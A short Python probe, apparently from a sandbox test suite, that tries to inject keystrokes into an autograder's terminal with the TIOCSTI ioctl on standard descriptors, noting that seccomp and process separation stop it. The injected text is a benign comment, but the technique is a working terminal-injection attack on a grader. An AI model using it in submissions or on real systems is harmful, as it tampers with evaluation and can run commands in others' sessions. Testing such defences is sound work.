"""Types a command into the grader's terminal by ioctl TIOCSTI."""
# stopped by: seccomp, process split
import fcntl


def attack():
    refused = []
    for descriptor in (0, 1, 2):
        try:
            for letter in b"# typed by a submission":
                fcntl.ioctl(descriptor, 0x5412, bytes([letter]))
            return "done: typed"
        except OSError as error:
            refused.append(error)
    raise refused[0]
